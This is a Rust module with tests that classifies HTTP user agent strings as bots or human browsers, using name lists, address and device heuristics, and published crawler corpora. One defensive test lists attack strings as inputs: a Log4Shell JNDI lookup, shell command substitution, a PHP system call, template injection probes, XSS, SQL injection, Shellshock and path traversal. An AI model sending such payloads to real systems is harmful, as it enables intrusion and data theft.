//! Whether a user agent is a program rather than a browser that a person uses.
//!
//! The names of [kept](names) [lists](clients), matched as parts of the user agent in one pass and
//! without case, by [tables](table) that the compiler makes of them; and [where](places) they
//! stand, since the same words name phones and apps. A bot that slips through is one touch too many,
//! but a person who is taken for a bot costs an affiliate the order.

mod clients;
mod names;
mod places;
mod table;

use places::{Device, Host, Place, is_template};
use table::{Kind, Table, count};

/// How much of a user agent is read. Browsers stay well below; the longest are those inside apps.
const MAX_USER_AGENT_LEN: usize = 1024;

const LISTS: [(&[&str], Kind); 12] = [
    (names::PROGRAMS, Kind::Program),
    (names::WORDS, Kind::Word),
    (&["bot"], Kind::Bot),
    (names::TOOLS, Kind::Tool),
    (&["http"], Kind::Http),
    (&["compatible"], Kind::Compatible),
    (clients::SYSTEMS, Kind::System),
    (clients::PHONES, Kind::Phone),
    (&["ipad", "iphone", "ipod"], Kind::Apple),
    (clients::DEVICES, Kind::Device),
    (clients::PEOPLE, Kind::Person),
    (clients::REFERRERS, Kind::Referrer),
];

static NAMES: Table<{ count(&LISTS) }> = Table::new(&LISTS);

/// What a user agent says besides what decides by itself.
#[derive(Default)]
struct Seen<'a> {
    /// A phone that is called as a program is.
    called: Option<Device<'a>>,
    /// What follows is in brackets in which apps of Facebook say what phone it is and who connects
    /// it: `[FBAN/FB4A;…;FBCR/Vodafone.de;…;FBDV/M bot 60;…]`.
    facebook: bool,
    /// A browser's system or engine.
    client: bool,
    /// A phone or tablet.
    phone: bool,
    /// A device that some apps name alone.
    device: bool,
    /// What a program does, or whose it is.
    tool: bool,
    /// `HTTP` as a word of its own.
    http: bool,
}

/// Whether this user agent is a bot's.
pub(crate) fn is_bot(user_agent: &str) -> bool {
    let end = user_agent.floor_char_boundary(MAX_USER_AGENT_LEN);
    let user_agent = user_agent.get(..end).unwrap_or_default();
    let mut seen = Seen::default();
    let mut at = 0_usize;
    while let Some((before, rest)) = user_agent.as_bytes().split_at_checked(at)
        && let [first, ..] = rest
    {
        let name = NAMES.find(rest);
        let place = Place {
            before,
            rest,
            name_len: name.map_or(1, |(len, _)| len),
        };
        let is_program = match (name, first) {
            (Some((_, kind)), _) => seen.is_program(kind, place),
            (None, b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b' ') => false,
            (None, b'@') => !seen.facebook && place.is_mail(),
            (None, b'.') => seen.is_address(place),
            (None, b'[') => {
                seen.facebook |= rest.starts_with(b"[FB");
                false
            }
            (None, b']') => {
                seen.facebook = false;
                false
            }
            (None, _) => !seen.facebook && is_template(rest),
        };
        if is_program {
            return true;
        }
        at = at.saturating_add(match name {
            Some((len, Kind::Person)) => len,
            Some((len, Kind::Referrer)) if seen.client => len.saturating_add(place.address_len()),
            _ => 1,
        });
    }
    !seen.client
        || seen.tool && !seen.phone
        || seen.http && !seen.device
        || !seen.device && is_bare_product(user_agent)
}

impl<'a> Seen<'a> {
    /// Takes note of a host, and says whether it is that of an address.
    fn is_address(&mut self, place: Place<'_>) -> bool {
        let host = if self.facebook {
            Host::None
        } else {
            place.host(self.tool)
        };
        self.tool |= host != Host::None;
        host == Host::WithPath
    }

    /// Whether the name is part of what a phone is called.
    fn is_of_a_device(&mut self, place: Place<'a>) -> bool {
        if self.facebook || self.called.is_some_and(|device| place.is_of(device)) {
            return true;
        }
        let device = place.device();
        self.called = self.called.or(device);
        device.is_some()
    }

    /// Takes note of a name, and says whether it decides that this is a program.
    fn is_program(&mut self, kind: Kind, place: Place<'a>) -> bool {
        let after = place.after();
        match kind {
            Kind::Program => return !self.facebook,
            Kind::Word => return !self.is_of_a_device(place),
            Kind::Bot => {
                let ends = !after.first().is_some_and(u8::is_ascii_alphabetic);
                return ends && !self.is_of_a_device(place);
            }
            Kind::Compatible => return place.is_compatible_program(),
            Kind::Http if place.stands_alone() => self.http = true,
            Kind::Http => return !self.facebook,
            Kind::Tool => self.tool |= !self.facebook && place.is_a_word(),
            Kind::System => self.client = true,
            Kind::Phone => (self.client, self.phone) = (true, true),
            Kind::Apple => {
                (self.client, self.phone) = (true, true);
                self.device |= !after.is_empty() || place.rest.starts_with(b"iP");
            }
            Kind::Device if after.first().is_some_and(u8::is_ascii_lowercase) => {}
            Kind::Device | Kind::Person => (self.client, self.device) = (true, true),
            Kind::Referrer => {}
        }
        false
    }
}

/// A name alone, or with a version of digits and dots: `undici`, `PostmanRuntime/7.29.0`. Browsers,
/// also those inside apps, name their system or engine besides.
fn is_bare_product(user_agent: &str) -> bool {
    let (name, version) = user_agent.split_once('/').unwrap_or((user_agent, "1"));
    let version = version.strip_prefix('v').unwrap_or(version);
    let numbers = |part: &str| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit());
    !name.contains(['(', '<', ',']) && version.split('.').all(numbers)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_stands_once_in_its_place_in_lower_case_and_is_long_enough_for_the_search() {
        let mut seen = std::collections::BTreeSet::new();
        for (names, kind) in LISTS {
            assert!(names.is_sorted(), "{kind:?}");
            for name in names {
                assert!(
                    name.len() >= 3 && *name == name.to_ascii_lowercase(),
                    "{name}"
                );
                assert!(seen.insert(name), "{name} stands in two lists");
            }
        }
        assert_eq!(seen.len(), NAMES.names.len());
        for (name, kind) in NAMES.names {
            assert_eq!(
                NAMES.find(name.as_bytes()),
                Some((name.len(), kind)),
                "{name}"
            );
        }
    }

    #[test]
    fn every_name_is_found_wherever_it_stands_and_however_it_is_written() {
        for name in [names::PROGRAMS, names::WORDS].concat() {
            assert!(is_bot(name), "{name}");
            let amid = format!("Mozilla/5.0 (X11; {}; rv:1) x", name.to_ascii_uppercase());
            assert!(is_bot(&amid), "{amid}");
        }
        for name in names::TOOLS {
            let behind = format!("Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Firefox/133.0 {name}");
            assert!(is_bot(&behind), "{behind}");
        }
    }

    #[test]
    fn crawlers_previews_and_programs_are_bots() {
        for user_agent in [
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X) AppleWebKit/537.36 (KHTML, like Gecko) \
             Chrome/130.0.0.0 Mobile Safari/537.36 (compatible; GPTBot/1.2)",
            "facebookexternalhit/1.1 Facebot Twitterbot/1.0",
            "WhatsApp/2.23.20.0 A",
            "TelegramBot (like TwitterBot)",
            "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) \
             HeadlessChrome/120.0.0.0 Safari/537.36",
            "curl/8.5.0",
            "Wget/1.21.4 (linux-gnu)",
            "python-requests/2.32.3",
            "node",
            "SomethingNew/1.0",
            "",
        ] {
            assert!(is_bot(user_agent), "{user_agent}");
        }
    }

    #[test]
    fn people_s_browsers_are_none() {
        for user_agent in [
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
             Chrome/131.0.0.0 Safari/537.36",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, \
             like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
            "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
            "Mozilla/5.0 (Linux; Android 14; SM-S918B; wv) AppleWebKit/537.36 (KHTML, like Gecko) \
             Version/4.0 Chrome/131.0.0.0 Mobile Safari/537.36 Instagram 360.0.0.1 Android \
             (34/14; 450dpi; 1080x2340; Google/google; Pixel 8; ruby; de_DE; 1)",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, \
             like Gecko) Mobile/15E148 QRScanner/3.1",
            "Opera/9.80 (J2ME/MIDP; Opera Mini/8.0) Presto/2.12",
        ] {
            assert!(!is_bot(user_agent), "{user_agent}");
        }
    }

    #[test]
    fn only_the_beginning_of_a_boundless_user_agent_is_read() {
        let long = format!("Mozilla/5.0 (X11) {}", "ü".repeat(8000));
        assert!(!is_bot(&format!("{long} Googlebot")));
    }

    fn on_a_phone(comment: &str) -> String {
        let engine = "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.0.0 Mobile Safari/537.36";
        format!("Mozilla/5.0 ({comment}) {engine}")
    }

    fn on_a_desktop(more: &str) -> String {
        let engine = "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
        format!("Mozilla/5.0 (Windows NT 10.0; Win64; x64) {engine}{more}")
    }

    #[test]
    fn phones_that_are_called_as_programs_are_people_s() {
        for phone in [
            "M Bot 70",
            "T BOT 650 Build/PPR1.180610.011",
            "VR BOT 600 PLUS",
            "IDbot560PLUS Build/MRA58K; wv",
            "ID bot 53+",
            "M_bot_tab_72",
            "XBot_Master",
            "BOT-L21",
            "C Bot Tab 80 Build/NRD90M; wv",
            "Robot X2 Pro",
            "CUBOT MAX",
            "Spider 10",
            "GLX SpiderI Build/KOT49H",
            "Crawler 5",
            "Monitor Tab 10",
            "Python 5",
        ] {
            for user_agent in [
                on_a_phone(&format!("Linux; Android 9; {phone}")),
                on_a_phone(&format!("Linux; U; Android 7.0; es-mx; {phone}")),
                on_a_phone(&format!(
                    "Windows Phone 10.0; Android 6.0.1; Microsoft; {phone}"
                )),
                format!("UCWEB/2.0 (MIDP-2.0; U; Adr 7.0; es-MX; {phone}) U2/1.0.0 Mobile"),
                on_a_phone("Linux; Android 9; K")
                    + &format!(" Instagram 312.0 Android (28/9; 320dpi; {phone}; mt6761; es_MX)"),
                format!("[FBAN/FB4A;FBAV/446.0.0;FBCR/Bot Movil;FBDV/{phone};FBSV/7.0]"),
            ] {
                assert!(!is_bot(&user_agent), "{user_agent}");
            }
        }
    }

    #[test]
    fn a_program_that_writes_itself_where_a_phone_s_name_stands_is_a_bot() {
        for comment in [
            "Linux; Android 10; NewBot/1.2",
            "Linux; Android 10; SM-A205U; spider@example.net",
            "Linux; Android 7.0; Googlebot",
            "Linux; Android 10; K; compatible; LinkSpider",
            "Linux; Android 8.0; Pixel 2 Build/OPD3.170816.012; Storebot",
            "Linux; U; Android 4.0.2; en-us; Catchpoint",
        ] {
            let user_agent = on_a_phone(comment);
            assert!(is_bot(&user_agent), "{user_agent}");
        }
        let behind = on_a_phone("Linux; Android 10; K") + " SomeBot";
        assert!(is_bot(&behind), "{behind}");
    }

    #[test]
    fn a_phone_that_is_named_again_is_the_same() {
        for again in [
            "Model/M bot 60",
            "Snapchat/12.0 (M_bot_60; Android 7.0#1; gzip; )",
        ] {
            let named = on_a_phone("Linux; Android 7.0; M bot 60 Build/NRD90M; wv");
            assert!(!is_bot(&format!("{named} {again}")), "{again}");
            let unnamed = on_a_phone("Linux; Android 7.0; K");
            assert!(is_bot(&format!("{unnamed} {again}")), "{again}");
        }
    }

    #[test]
    fn a_comment_of_boundless_length_names_no_phone() {
        let repeated = "bot ".repeat(200);
        assert!(is_bot(&on_a_phone(&format!(
            "Linux; Android 10; {repeated}"
        ))));
        let behind = format!("Linux; Android 10; {}; bot", "x; ".repeat(100));
        assert!(is_bot(&on_a_phone(&behind)));
    }

    #[test]
    fn browsers_of_sogou_of_old_phones_and_of_televisions_are_people_s() {
        for user_agent in [
            "Mozilla/5.0 (iPhone; CPU iPhone OS 14_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, \
             like Gecko) Mobile/15E148 SogouMSE,SogouMobileBrowser/5.9.10",
            "MICROMAX X088 WAP Browser/MAUI (HTTP PGDL; HTTPS) Profile/MIDP-2.0",
            "Winmax_BC11 MRE/2.5.00;MAUI/BC11_V1;WAP Browser/MAUI HTTP PGDL;HTTPS;GMOBI/001",
            "SAMSUNG-GT-E2152/E2152XXKB1 NetFront/4.1 Configuration/CLDC-1.1 (HTTPS)",
            "Hitech Micra 80 WAP-Browser/1.0.0",
            "E1272_MAUI WAP Browser",
            "Vodafone/1.0/LG-KC910/V08h Browser/Teleca-Q7.1 Java/ASVM/1.1 Profile/MIDP-2.1",
            "nook browser/1.1",
            "smarttv_AFTKRT_Build_0029999_Chromium_104.0.5112.97",
            "HbbTV/1.4.1 (+DRM;LGE;43UK6300;WEBOS4.0 03.10.20;W4_LM18A;) FVC/2.0",
            "AppleTV11,1/11.1",
            "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; stumbleupon.com 1.9)",
            "Mozilla/4.0 (compatible; Netscape 7.0; Windows 98)",
            "Mozilla/5.0 (compatible; Konqueror/4.14; Linux 5.4) KHTML/4.14.38 (like Gecko)",
        ] {
            assert!(!is_bot(user_agent), "{user_agent}");
        }
    }

    #[test]
    fn apps_may_name_nothing_but_the_iphone_or_ipad() {
        for user_agent in [
            "iPhone17",
            "iPhone17ProMax",
            "iPhone 12 mini",
            "iPhoneSE4thGen",
            "iPadAir5",
            "iPodTouch6",
            "iPhone",
            "Apple-iPhone12C1/1707.75",
        ] {
            assert!(!is_bot(user_agent), "{user_agent}");
        }
        assert!(is_bot("ipad"));
    }

    #[test]
    fn the_page_that_a_click_came_from_is_not_the_address_of_a_program() {
        for more in [
            " Initiator: https://kettle.example/checker?scan=1",
            " Initiator:https://robots.example",
            "; initiator: http://m.facebook.com/ ",
            " (Initiator: https://kettle.example/bot-vacuum)",
            " Referer: https://www.example.com/",
        ] {
            let user_agent = on_a_desktop(more);
            assert!(!is_bot(&user_agent), "{user_agent}");
        }
        assert!(is_bot("Initiator: https://kettle.example/"));
        assert!(is_bot(&on_a_desktop(
            " Initiator: https://kettle.example/ Robot"
        )));
    }

    #[test]
    fn who_gives_an_address_is_a_program() {
        for more in [
            " +http://example.org/policy",
            " (compatible; +https://example.org)",
            "; info@example.org",
            " hello[at]example.org",
            " (mailto:abuse@example.org)",
            " adwatch.example.com/policy",
            " (hunter.example.net)",
            " www.example",
        ] {
            let user_agent = on_a_desktop(more);
            assert!(is_bot(&user_agent), "{user_agent}");
        }
        let phone = on_a_phone("Linux; Android 10; K") + " adwatch.example.com/policy";
        assert!(is_bot(&phone), "{phone}");
        // What apps are called, and where mail is read.
        for more in [
            " shop.de/11.2 (iOS)",
            " example.de",
            " com.example.net/1.2",
            " (Ecosia android@62.0.3202.101)",
            " [FBAN/FBIOS;FBCR/Vodafone.de;FBID/phone]",
        ] {
            let user_agent = on_a_phone("Linux; Android 10; K") + more;
            assert!(!is_bot(&user_agent), "{user_agent}");
        }
    }

    #[test]
    fn what_a_program_does_tells_on_a_desktop_and_nothing_on_a_phone() {
        for more in [
            " PriceChecker/9.0",
            " PriceCheckerPro",
            " (price checker)",
            " ThreatScan",
            " VulnScanner/1.0",
            " port-scan",
            " HealthAgent",
            " DealDetector/1.0",
            " NetMeasurement/2023",
        ] {
            let (desktop, phone) = (
                on_a_desktop(more),
                on_a_phone("Linux; Android 10; K") + more,
            );
            assert!(is_bot(&desktop), "{desktop}");
            assert!(!is_bot(&phone), "{phone}");
        }
        for more in [
            " MagentaTV",
            " Agency/1.0",
            " Presearch",
            " Scandinavia",
            " com.example.net/shop",
        ] {
            assert!(!is_bot(&on_a_desktop(more)), "{more}");
        }
    }

    #[test]
    fn compatible_with_no_browser_is_a_program() {
        for user_agent in [
            "Mozilla/5.0 (compatible; LinkHunter/2.3)",
            "Mozilla/5.0 (compatible;Peeker)",
            "Mozilla/5.0 (compatible)",
            "Mozilla/5.0 (compatible; X-Lookup/1.0; Windows NT 6.1; rv:40.0) Gecko/20100101 \
             Firefox/40.1",
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Shopper-User/1.0) \
             Chrome/126.0.0.0 Safari/537.36",
        ] {
            assert!(is_bot(user_agent), "{user_agent}");
        }
    }

    #[test]
    fn who_names_neither_a_system_nor_a_browser_is_a_program() {
        for user_agent in [
            "Mozilla/5.0 Keeper",
            "Mozilla/5.0 keeper/0.1",
            "Mozilla/5.0 (Exchange test)",
            "hello there, friend",
            "Some Study (EE)",
            "import-tool/0.2 (nightly; v3)",
            "Agent/ShopForMe",
        ] {
            assert!(is_bot(user_agent), "{user_agent}");
        }
    }

    #[test]
    fn templates_and_attacks_are_programs() {
        for attack in [
            "${jndi:ldap://${hostName}.example/a}",
            "${7*7}",
            "$(id)",
            "{{7*7}}",
            "<?php system('id'); ?>",
            "<%= 7*7 %>",
            "#{7*7}",
            "%{7*7}",
            "<script>alert(1)</script>",
            "' OR '1'='1",
            "() { :; }; /bin/sh",
            "../../etc/passwd",
        ] {
            let behind = on_a_desktop(" ") + attack;
            assert!(is_bot(attack) && is_bot(&behind), "{attack}");
        }
        assert!(is_bot("Mozilla/5.0 (%s; rv:%s) Gecko/%s Firefox/%s"));
    }

    /// What a published list says, where the directory that `WAYMARK_FIXTURES` names has it.
    fn list(file: &str) -> Option<String> {
        let Some(fixtures) = std::env::var_os("WAYMARK_FIXTURES") else {
            println!("skipped: WAYMARK_FIXTURES is not set");
            return None;
        };
        let path = std::path::Path::new(&fixtures).join("bots").join(file);
        Some(std::fs::read_to_string(path).unwrap())
    }

    /// The user agents of a corpus of the JavaScript library `isbot`, each under its heading.
    fn corpus(text: &str) -> Vec<(&str, &str)> {
        let mut heading = "";
        let mut entries = Vec::new();
        for line in text.lines() {
            match line.strip_prefix("  - ") {
                Some(entry) => entries.push((heading, entry.trim_matches('"'))),
                None => heading = line,
            }
        }
        entries
    }

    #[test]
    fn of_known_crawlers_99_in_100_are_found_and_no_known_browser_is_taken_for_one() {
        let (Some(crawlers), Some(browsers), Some(bots)) = (
            list("isbot-crawlers.yml"),
            list("isbot-browsers.yml"),
            list("bots-taken-for-people.json"),
        ) else {
            return;
        };
        let (crawlers, browsers) = (corpus(&crawlers), corpus(&browsers));
        assert!(crawlers.len() > 600 && browsers.len() > 500);
        let missed: Vec<_> = crawlers.iter().filter(|(_, name)| !is_bot(name)).collect();
        println!("missed {} of {} crawlers", missed.len(), crawlers.len());
        assert!(missed.len() <= 4, "{missed:#?}");

        // Under the last headings stand bots that are rare, and attacks; and some are bots by the
        // other list.
        let bots: Vec<String> = serde_json::from_str(&bots).unwrap();
        let mistaken: Vec<_> = browsers.iter().filter(|(_, name)| is_bot(name)).collect();
        println!(
            "took {} of {} browsers for bots",
            mistaken.len(),
            browsers.len()
        );
        assert!(mistaken.len() <= 13, "{mistaken:#?}");
        let browsers = mistaken.iter().filter(|(heading, name)| {
            !heading.starts_with("ZZZ") && !bots.iter().any(|bot| bot == name)
        });
        assert_eq!(browsers.collect::<Vec<_>>(), [&&("", ""); 0]);
    }

    /// Of 1 342 bots and 34 250 other user agents that a published library of parsers is tested
    /// with, those that an earlier state of this list got wrong.
    #[test]
    fn of_known_bots_995_in_1000_are_found_and_of_people_1_in_2000_is_mistaken() {
        let (Some(bots), Some(people)) = (
            list("bots-taken-for-people.json"),
            list("people-taken-for-bots.json"),
        ) else {
            return;
        };
        let bots: Vec<String> = serde_json::from_str(&bots).unwrap();
        let missed: Vec<_> = bots.iter().filter(|bot| !is_bot(bot)).collect();
        println!("missed {} of {} bots", missed.len(), bots.len());
        assert!(missed.len() <= 6, "{missed:#?}");

        type Entry = (Vec<Option<String>>, String);
        let people: Vec<Entry> = serde_json::from_str(&people).unwrap();
        let is_browser = |kind: &[Option<String>]| {
            matches!(kind, [None, ..]) || kind.first() == Some(&Some("browser".to_owned()))
        };
        let mistaken = people.iter().filter(|(_, name)| is_bot(name));
        let mistaken: Vec<_> = mistaken.filter(|(kind, _)| is_browser(kind)).collect();
        println!(
            "took {} browsers of {} for bots",
            mistaken.len(),
            people.len()
        );
        assert!(mistaken.len() <= 17, "{mistaken:#?}");
    }
}
